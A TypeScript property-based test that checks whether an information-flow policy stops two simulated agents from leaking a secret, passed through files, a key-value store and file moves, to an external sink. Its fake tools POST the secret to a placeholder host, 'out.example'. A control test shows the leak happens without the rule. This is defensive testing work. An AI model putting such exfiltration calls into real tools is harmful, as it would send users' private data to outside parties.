// Whatever two agents do, in whatever order: what one of them really knows is kept track of beside the server, and never leaves.

import fc from 'fast-check';
import { expect, test } from 'vitest';
import type { Json } from '#base/json.ts';
import type { AgentName } from '#domain/agent.ts';
import type { CallRequest } from '#domain/invocation.ts';
import { type Behaviour, createLabelWorld, policyWith } from './label-world.ts';

const FILES = ['x', 'y', 'f/z'] as const;
const SECRET = 'the private data';

type Step =
  | { readonly kind: 'secrets' | 'page' | 'restart' }
  | { readonly kind: 'write' | 'read' | 'set' | 'get' | 'readAndSend'; readonly at: number }
  | { readonly kind: 'move'; readonly at: number; readonly to: number }
  | { readonly kind: 'send' };

const at = fc.nat(FILES.length - 1);
const step: fc.Arbitrary<Step> = fc.oneof(
  fc.record({ kind: fc.constantFrom('secrets' as const, 'page' as const, 'restart' as const) }),
  fc.record({
    kind: fc.constantFrom('write' as const, 'read' as const, 'set' as const, 'get' as const, 'readAndSend' as const),
    at,
  }),
  fc.record({ kind: fc.constant('move' as const), at, to: at }),
  fc.record({ kind: fc.constant('send' as const) }),
);
const steps = fc.array(
  fc.record({ step, agent: fc.constantFrom('a', 'b'), session: fc.constantFrom(undefined, 's', 't') }),
  { minLength: 8, maxLength: 24, size: 'max' },
);
type Taken = typeof steps extends fc.Arbitrary<infer T> ? T : never;

const pathOf = (index: number) => `workspace/${FILES[index]}`;
const textOf = (value: Json) => (JSON.stringify(value) ?? '').includes(SECRET);

/** Has an agent do one step, with all that it knows in its words. Whether it got the secret back. */
function behavioursFor(memory: { text: string; step: Step }): { readonly [tool: string]: Behaviour } {
  const quietly = (asked: Promise<Json>): Promise<Json> => asked.catch(() => null);
  const files: Behaviour = async (host) => {
    const { step: now } = memory;
    if (now.kind === 'write') return quietly(host('files.write', { path: pathOf(now.at), text: memory.text }));
    if (now.kind === 'read') return quietly(host('files.read', { path: pathOf(now.at) }));
    if (now.kind === 'set') return quietly(host('store.set', { key: `k${now.at}`, value: memory.text }));
    if (now.kind === 'get') return quietly(host('store.get', { key: `k${now.at}` }));
    if (now.kind === 'move') return quietly(host('files.move', { from: pathOf(now.at), to: pathOf(now.to) }));
    return null;
  };
  return {
    secrets: () => SECRET,
    disk: files,
    mixed: async (host) => {
      const { step: now } = memory;
      const read = now.kind === 'readAndSend' ? await quietly(host('files.read', { path: pathOf(now.at) })) : null;
      const text = JSON.stringify([memory.text, read]);
      return quietly(host('fetch', { url: 'https://out.example/', method: 'POST', body: { text } }));
    },
    send: (host) => host('fetch', { url: 'https://out.example/', method: 'POST', body: { text: memory.text } }),
  };
}

const TOOL_OF: { readonly [kind in Step['kind']]: string } = {
  ...{ secrets: 'secrets', page: 'page', restart: '', send: 'send', readAndSend: 'mixed' },
  ...{ write: 'disk', read: 'disk', set: 'disk', get: 'disk', move: 'disk' },
};

/** What left, after all steps. */
async function play(taken: Taken, isRuled: boolean): Promise<readonly string[]> {
  const memory = { text: '', step: { kind: 'restart' } as Step };
  const shared = {
    shares: { common: ['a', 'b'] },
    agents: Object.fromEntries(['a', 'b'].map((name) => [name, { workspace: 'common', grants: [{ tools: ['*'] }] }])),
  };
  using world = createLabelWorld(
    policyWith(isRuled ? [{ sink: 'external', after: ['private'] }] : [], shared),
    behavioursFor(memory),
  );
  let dispatcher = world.dispatcher;
  const knows: { [agent: string]: boolean } = {};
  for (const { step: now, agent, session } of taken) {
    if (now.kind === 'restart') {
      dispatcher = world.restart();
      continue;
    }
    memory.step = now;
    memory.text = knows[agent] === true ? SECRET : 'nothing';
    const more: Partial<CallRequest> = { agent: agent as AgentName, ...(session === undefined ? {} : { session }) };
    const { answer } = await dispatcher.call(world.request(`p__${TOOL_OF[now.kind]}`, more));
    if (answer.kind === 'value' && textOf(answer.value as Json)) knows[agent] = true;
  }
  return world.sent;
}

test('what is private never leaves after it was seen, by whichever way it went', async () => {
  await fc.assert(
    fc.asyncProperty(steps, async (taken) => {
      expect((await play(taken, true)).filter((sent) => sent.includes(SECRET))).toEqual([]);
    }),
    { numRuns: 15, endOnFailure: true },
  );
});

test('and the control: without the rule the same steps let it out', async () => {
  const outcome = await fc.check(
    fc.asyncProperty(steps, async (taken) => !(await play(taken, false)).some((sent) => sent.includes(SECRET))),
    { numRuns: 40, endOnFailure: true },
  );
  expect(outcome.failed).toBe(true);
});
